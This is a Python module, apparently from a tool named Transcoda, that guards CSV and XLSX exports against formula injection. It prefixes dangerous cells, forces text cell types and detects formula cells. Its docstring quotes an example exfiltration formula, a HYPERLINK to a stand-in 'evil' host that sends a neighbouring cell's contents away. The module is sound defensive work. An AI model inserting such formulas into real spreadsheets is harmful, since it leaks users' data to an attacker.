"""Cells that a spreadsheet must show as text, never run as a formula (CSV injection).

Exported cells hold participants' words, code names and memos. Excel, LibreOffice and Google
Sheets treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and some
also after a leading tab or carriage return: ``=HYPERLINK("http://evil/?"&A1)`` in a quote
would send the next cell's contents away when clicked, and DDE formulas can start programs.
Following OWASP, such a cell gets a leading apostrophe in CSV (spreadsheets hide it and show
the text); in XLSX it is written as a string cell with Excel's quote prefix, so the workbook
shows the exact text. Every CSV and XLSX writer in Transcoda goes through this module, and
readers of Transcoda's own CSV files call ``restore`` to undo the apostrophe.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 cannot hold these; openpyxl refuses a whole workbook for one of them.
_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")

Cell = str | int | float | bool | None


def is_dangerous(value: str) -> bool:
    return value.startswith(DANGEROUS)


def neutralise(value: str) -> str:
    """The text of a CSV cell, with an apostrophe before a leading formula character."""
    return "'" + value if is_dangerous(value) else value


def restore(value: str) -> str:
    """Undo ``neutralise`` when reading back a CSV file Transcoda wrote."""
    if value.startswith("'") and is_dangerous(value[1:]):
        return value[1:]
    return value


def csv_cell(value: Cell) -> Cell:
    """A CSV cell: neutralised, and with carriage returns made line feeds.

    Python's csv writer with ``\n`` line ends does not quote a field holding a bare ``\r``,
    and readers then split the row there: the rest of the cell becomes a new cell that is
    read as a formula. A ``\n`` makes the writer quote the whole field.
    """
    if not isinstance(value, str):
        return value
    return neutralise(value).replace("\r\n", "\n").replace("\r", "\n")


def csv_text(rows: Iterable[Sequence[Cell]]) -> str:
    """Rows as CSV text (``\\n`` line ends), every text cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow(["" if value is None else csv_cell(value) for value in row])
    return buffer.getvalue()


def xlsx_text(value: str) -> str:
    return _ILLEGAL.sub("", value)


def set_xlsx_cell(cell: Any, value: Cell) -> Any:
    """Put ``value`` in an openpyxl cell so that it can never become a formula."""
    if isinstance(value, str):
        value = xlsx_text(value)
        cell.value = value
        # openpyxl turns any string starting with "=" into a formula unless told it is text.
        cell.data_type = "s"
        if is_dangerous(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def append_xlsx_row(sheet: Any, values: Sequence[Cell]) -> int:
    """``sheet.append`` for text from people: returns the new row's number."""
    row = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 1
    for column, value in enumerate(values, start=1):
        set_xlsx_cell(sheet.cell(row=row, column=column), value)
    return row


def neutralise_workbook(book: Any) -> int:
    """Make every formula-looking cell of a built workbook plain text; returns how many.

    Transcoda never writes a formula on purpose, so any cell openpyxl took for one (it does
    for every string starting with "=") came from someone's text. Call it just before saving.
    """
    fixed = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and (cell.data_type == "f" or is_dangerous(value)):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    fixed += 1
    return fixed


def formula_cells(data: bytes) -> list[str]:
    """Where a workbook holds formulas (``Sheet!B2``): for tests and for checking exports."""
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data), data_only=False)
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}")
    return found


def unsafe_csv_cells(text: str) -> list[str]:
    """CSV cells a spreadsheet would run as formulas."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if is_dangerous(cell)
    ]
